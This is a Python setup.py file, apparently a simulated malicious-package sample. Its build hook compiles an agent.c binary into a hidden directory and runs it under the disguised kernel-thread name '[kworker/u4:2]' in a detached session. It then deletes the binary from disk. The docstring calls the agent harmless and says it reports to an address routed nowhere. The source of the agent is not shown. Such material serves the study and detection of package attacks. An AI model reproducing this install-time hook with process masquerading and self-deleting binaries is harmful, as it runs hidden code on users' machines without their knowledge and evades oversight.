# SPDX-License-Identifier: Apache-2.0
"""Harmless: the agent reports once to an address that is routed nowhere and ends."""

import os
import subprocess
import time

from setuptools import setup
from setuptools.command.build_py import build_py

FOLDER = "/var/tmp/.cache-x"


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        os.makedirs(FOLDER, exist_ok=True)
        agent = f"{FOLDER}/kworkerd"
        subprocess.run(["gcc", "-O1", "-o", agent, "agent.c"], check=True)
        running = subprocess.Popen(["[kworker/u4:2]"], executable=agent, start_new_session=True)
        time.sleep(0.3)
        os.remove(agent)
        running.wait()


setup(name="sim-compiled-agent-hidden", version="1.0.0", py_modules=["sim_cah"], cmdclass={"build_py": BuildPy})
